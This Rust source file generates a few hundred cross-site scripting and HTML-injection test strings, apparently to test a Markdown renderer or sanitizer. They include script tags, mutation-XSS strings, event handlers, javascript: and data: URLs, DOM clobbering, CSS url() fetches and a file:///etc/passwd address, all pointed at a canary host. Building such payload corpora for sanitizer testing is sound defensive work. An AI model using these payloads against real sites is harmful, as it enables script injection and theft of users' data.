//! Texts that a browser runs, fetches, or follows if a page treats them as markup.
//!
//! In the lists, `§` stands for a script that opens a dialog and stores the text's number in `globalThis.pwned`, and
//! `¤` for an address that must not be requested; both contain the number, which identifies the text.

/// Markup that has an effect without a click.
const MARKUP: &[&str] = &[
    // The next texts are scripts, in every spelling that a parser accepts.
    "<script>§</script>",
    "<SCRIPT>§</SCRIPT>",
    "<sCrIpT >§</ScRiPt >",
    "<script\n>§</script\n>",
    "<script/x>§</script>",
    "<script\u{c}>§</script>",
    "<script src=¤></script>",
    "<script src=¤.js async defer></script>",
    "<script src=//canary.invalid/></script>",
    "<script type=module>§</script>",
    "<script type=module src=¤></script>",
    "<script type=text/javascript>§</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"¤\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"¤\"]}]}</script>",
    "<scr<script>ipt>§</scr</script>ipt>",
    "<<script>§//<</script>",
    "<script>§",
    "<script x>§</script 1=2>",
    "<svg><script>§</script></svg>",
    "<svg><script href=¤></script></svg>",
    "<svg><script xlink:href=data:,§></script></svg>",
    "<math><script>§</script></math>",
    "<svg><script>&#97;lert(pwned=1)</script>",
    "<template><script>§</script></template>",
    "<div><template shadowrootmode=open><script>§</script></template></div>",
    "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
    "<!--><script>§</script>-->",
    "<!--[if IE]><script>§</script><![endif]-->",
    "<![CDATA[<script>§</script>]]>",
    "<?xml-stylesheet href=\"javascript:§\"?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"¤\">]><x>&e;</x>",
    "\u{0}<script>§</script>",
    "<script>\u{2028}§</script>",
    // The next texts are mutations: one parser reads text where another reads markup.
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=§&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=§>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
    "<noscript><style></noscript><img src=x onerror=§>",
    "<select><template><img src=x onerror=§></template></select>",
    "<listing>&lt;img src=x onerror=§&gt;</listing>",
    "<textarea></textarea><img src=x onerror=§>",
    "<xmp><p title=\"</xmp><svg/onload=§>\">",
    "<style><img src=\"</style><img src=x onerror=§//\">",
    // The next texts fetch something.
    "<img src=¤>",
    "<img srcset='¤ 1x, ¤b 2x'>",
    "<picture><source srcset=¤><img></picture>",
    "<image src=¤>",
    "<image href=¤>",
    "<svg><image href=¤></svg>",
    "<svg><use href=¤#x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§</script></svg>#x'></svg>",
    "<svg><feImage href=¤></svg>",
    "<svg><style>@import '¤'</style></svg>",
    "<svg><foreignObject><iframe src=¤></iframe></foreignObject></svg>",
    "<video src=¤></video>",
    "<video poster=¤></video>",
    "<audio src=¤ autoplay></audio>",
    "<video><track default src=¤></video>",
    "<video><source src=¤></video>",
    "<iframe src=¤></iframe>",
    "<iframe src=javascript:§></iframe>",
    "<iframe srcdoc='<script>§</script>'></iframe>",
    "<iframe srcdoc=\"&lt;img src=1 onerror=parent.§&gt;\">",
    "<iframe src='data:text/html,<script>§</script>'>",
    "<iframe/src=\"javascript:§\">",
    "<frameset><frame src=javascript:§></frameset>",
    "<object data=¤></object>",
    "<object data='data:text/html,<script>§</script>'></object>",
    "<object type=image/svg+xml data=¤>",
    "<embed src=¤>",
    "<embed src=javascript:§>",
    "<applet code=¤>",
    "<link rel=stylesheet href=¤>",
    "<link rel=preload as=script href=¤>",
    "<link rel=prefetch href=¤>",
    "<link rel=dns-prefetch href=//canary.invalid>",
    "<link rel=preconnect href=¤>",
    "<link rel=modulepreload href=¤>",
    "<link rel=icon href=¤>",
    "<link rel=manifest href=¤>",
    "<link rel=import href=¤>",
    "<link rel=stylesheet href='data:text/css,*{background:url(¤)}'>",
    "<style>@import '¤';</style>",
    "<style>@import url(¤);</style>",
    "<style>*{background:url(¤)}</style>",
    "<style>@font-face{font-family:x;src:url(¤)}*{font-family:x}</style>",
    "<style>*{list-style:url('¤')}</style>",
    "<div style='background:url(¤)'>x</div>",
    "<div style=\"background-image:url('javascript:§')\">x</div>",
    "<div style='width:expression(§)'>x</div>",
    "<div style=\"behavior:url(¤)\">x</div>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<table background=¤><td background=¤>x</table>",
    "<body background=¤>",
    "<input type=image src=¤>",
    "<isindex action=¤>",
    "<bgsound src=¤>",
    "<html manifest=¤>",
    "<portal src=¤></portal>",
    "<fencedframe src=¤>",
    "<base href=¤/>",
    "<base target=_top>",
    // The next texts navigate elsewhere.
    "<meta http-equiv=refresh content='0;url=¤'>",
    "<meta http-equiv=refresh content=\"0;javascript:§\">",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta charset=utf-7>+ADw-script+AD4-§+ADw-/script+AD4-",
    "<meta name=referrer content=unsafe-url>",
    "<form action=¤ id=f><input name=x autofocus onfocus=f.submit()></form>",
    "<form action=javascript:§><button>x</button></form>",
    "<form><button formaction=javascript:§>x</button></form>",
    "<button form=f formaction=¤>x",
    "<a href=¤ ping=¤p>x</a>",
    "<a href=¤ download>x</a>",
    "<area href=javascript:§ shape=default>",
    "<map name=m><area href=¤></map><img usemap=#m src=data:,>",
    "<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>",
    "<math href=javascript:§>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>",
    "<svg><a><animate attributeName=href values=javascript:§ /><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=§>",
    "<dialog open>x</dialog>",
    "<marquee>x</marquee>",
    "<plaintext>",
    "<details open>x</details>",
    "<title>x</title>",
    "<body class=x>",
    "<html lang=xx>",
    "<main>x</main>",
    "<input value=x autofocus>",
    "<label for=main>x</label>",
    // The next texts replace a global name that a script may use.
    "<a id=prosescope></a><a id=prosescope name=stats href=¤>",
    "<form id=document><input name=body></form>",
    "<img name=currentScript>",
    "<a id=wasm_bindgen href=javascript:§>",
    "<form name=location><input name=href>",
    "<div id=prosescope-wasm>x</div>",
];

/// Elements in which an event handler from [`HANDLERS`] replaces the word `HANDLER`.
const HOLDERS: &[&str] = &[
    "<img src=x HANDLER>",
    "<IMG SRC=x HANDLER>",
    "<img/src/HANDLER>",
    "<svg HANDLER>",
    "<svg/HANDLER/>",
    "<body HANDLER>",
    "<input autofocus HANDLER>",
    "<x tabindex=1 autofocus HANDLER>x</x>",
    "<details open HANDLER>x</details>",
    "<video src=x HANDLER></video>",
    "<a href=# HANDLER>x</a>",
    "<div contenteditable HANDLER>x</div>",
    "<style HANDLER></style>",
    "<svg><animate attributeName=x dur=1s HANDLER></svg>",
    "<x style='animation:x 1s;transition:all 1s' HANDLER>x</x>",
    "<img src=\"x\" \n HANDLER \n>",
    "<iframe HANDLER></iframe>",
    "<object data=x HANDLER></object>",
];
const HANDLERS: &[&str] = &[
    "onerror=§",
    "onload=§",
    "ONERROR = '§'",
    "onfocus=\"§\"",
    "ontoggle=§",
    "onbegin=§",
    "onmouseover=§",
    "onclick=&#97;lert(pwned=1)",
    "onpointerenter=`§`",
    "onanimationstart=§",
];

/// Texts that end the markup around them.
const BREAKERS: &[&str] = &[
    "\"",
    "'",
    "`",
    ">",
    "\">",
    "'>",
    "\"/>",
    "--> ",
    "--!>",
    "*/",
    "]]>",
    "</p>",
    "</pre>",
    "</code>",
    "</span>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</template>",
    "</svg>",
    "</noscript>",
    "</xmp>",
    "</select>",
    "\\\"",
    "\\",
    "${",
    "{{",
    "}}",
    "\");",
    "');",
    "\n",
    "\r\n",
    "\u{2028}",
    "\u{0}",
    "%22%3E",
    "&quot;&gt;",
    "&#34;&#62;",
    "\u{ff02}\u{ff1e}",
];
const BROKEN_INTO: &[&str] = &[
    "<script>§</script>",
    "<img src=x onerror=§>",
    " onmouseover=§ x=",
    " autofocus onfocus=§ style=x:y ",
];

/// Addresses that run a script, open a document, or lead to another site.
const ADDRESSES: &[&str] = &[
    "javascript:§",
    "JaVaScRiPt:§",
    " javascript:§",
    "\u{1}javascript:§",
    "java\tscript:§",
    "java\nscript:§",
    "java\rscript:§",
    "javascript\t:§",
    "javascript&colon;§",
    "&#106;avascript:§",
    "&#x6A;avascript&#58;§",
    "javascript:%61lert(pwned=1)",
    "javascript://canary.invalid/%0a§",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+§//'>",
    "vbscript:msgbox(1)",
    "livescript:§",
    "data:text/html,<script>§</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChwd25lZD0xKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
    "data:,§",
    "blob:¤",
    "file:///etc/passwd",
    "view-source:¤",
    "filesystem:¤",
    "about:blank",
    "intent://x#Intent;end",
    "ms-settings:",
    "//canary.invalid/",
    "\\\\canary.invalid\\x",
    "/\\canary.invalid",
    "¤",
    "HTTPS://canary.invalid/",
    "http://user:pw@canary.invalid/",
    "http:canary.invalid",
    "mailto:a@canary.invalid?body=x",
    "mailto:x%0abcc:y",
    "http://\u{430}pple.invalid/",
    "x:§",
    "feed:javascript:§",
    "jar:¤!/",
];

/// Markdown and HTML in which an address from [`ADDRESSES`] replaces the word `ADDRESS`.
const LINKS: &[&str] = &[
    "[x](<ADDRESS>)",
    "[x](ADDRESS)",
    "![x](<ADDRESS>)",
    "<ADDRESS>",
    "[x]\n\n[x]: <ADDRESS> 'title'",
    "![x][i]\n\n[i]: ADDRESS",
    "[![x](<ADDRESS>)](<ADDRESS>)",
    "<a href=\"ADDRESS\">x</a>",
    "[x](<ADDRESS> \"\" onmouseover='§'\")",
];

/// Markdown whose effect depends on the renderer.
const MARKDOWN: &[&str] = &[
    "# <img src=x onerror=§>",
    "* <script>§</script>",
    "> <svg/onload=§>",
    "1. <iframe src=¤>",
    "| a |\n|--|\n| <img src=x onerror=§> |",
    "**<img src=x onerror=§>**",
    "`<script>§</script>`",
    "```html\n<script>§</script>\n```",
    "~~~\" onmouseover=§ \"\nx\n~~~",
    "```<script>§</script>\nx\n```",
    "    <script>§</script>",
    "<div>\n\n*x* <img src=x onerror=§>\n\n</div>",
    "<!-- x\n\n<script>§</script>",
    "[x]: javascript:§\n[x]",
    "[^1]\n\n[^1]: <img src=x onerror=§>",
    "- [ ] <img src=x onerror=§>",
    "![\"onerror=§](x)",
    "[\\]](javascript:§)",
    "[a](javascript:§ \"t\")<b>",
    "<http://canary.invalid/?\"onmouseover=§>",
    "www.canary.invalid/§",
    "http://canary.invalid/\"onmouseover=\"§",
    "$$<img src=x onerror=§>$$",
    "==<svg onload=§>==",
    ":::x\n<script>§</script>\n:::",
    "{% raw %}<script>§</script>",
    "---\ntitle: <script>§</script>\n---",
    "<details><summary onclick=§>x</summary></details>",
    "[x](http://canary.invalid/ \"'onmouseover=§\")",
    "\\<script>§\\</script>",
    "&lt;script&gt;§&lt;/script&gt;",
    "&#60;script&#62;§&#60;/script&#62;",
    "\u{3c}\u{338}script>§</script>",
    "\u{ff1c}script\u{ff1e}§\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}§",
    "{{constructor.constructor('§')()}}",
    "${§}",
    "#{§}",
    "<%= § %>",
    "<?php § ?>",
    "[[§]]",
    "{\"__proto__\":{\"x\":\"<img src=x onerror=§>\"}}",
    "{\"a\":\"</script><script>§</script>\"}",
    "[\"<img src=x onerror=§>\"]",
];

/// Returns hundreds of texts, each of which contains its number.
pub fn texts() -> Vec<Vec<u8>> {
    let owned = |list: &[&str]| {
        list.iter()
            .map(|text| (*text).to_owned())
            .collect::<Vec<_>>()
    };
    let handlers = crossed(HOLDERS, "HANDLER", HANDLERS, 4);
    let ends: Vec<String> = BREAKERS.iter().map(|end| format!("x{end}THEN")).collect();
    let ends: Vec<&str> = ends.iter().map(String::as_str).collect();
    let broken = crossed(&ends, "THEN", BROKEN_INTO, 2);
    let links = crossed(ADDRESSES, "", LINKS, 5);
    let all = [owned(MARKUP), handlers, broken, links, owned(MARKDOWN)].concat();
    let marked = all.iter().enumerate().map(|(n, text)| marked(text, n));
    marked.map(String::into_bytes).collect()
}

/// Combines each place with `many` of the payloads, different ones for each place; every payload occurs. All
/// combinations would be too many for a page.
fn crossed(places: &[&str], mark: &str, what: &[&str], many: usize) -> Vec<String> {
    let pairs = places
        .iter()
        .enumerate()
        .flat_map(|(i, place)| (0..many).map(move |n| (*place, what[(i + n * 3) % what.len()])));
    pairs
        .map(|(place, what)| match mark {
            "" => what.replace("ADDRESS", place),
            mark => place.replace(mark, what),
        })
        .collect()
}

/// Inserts the number that identifies a text into its script or address.
fn marked(text: &str, n: usize) -> String {
    let text = text
        .replace('§', &format!("alert(pwned={n})"))
        .replace('¤', &format!("http://canary.invalid/{n}"));
    format!("{text} \u{ab}{n}\u{bb}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_hundreds_and_each_is_marked() {
        let texts = texts();
        assert!(texts.len() > 400, "{}", texts.len());
        for (n, text) in texts.iter().enumerate() {
            let text = String::from_utf8(text.clone()).expect("UTF-8");
            assert!(text.ends_with(&format!("\u{ab}{n}\u{bb}")), "{text}");
            assert!(!text.contains(['§', '¤']), "{text}");
        }
    }
}
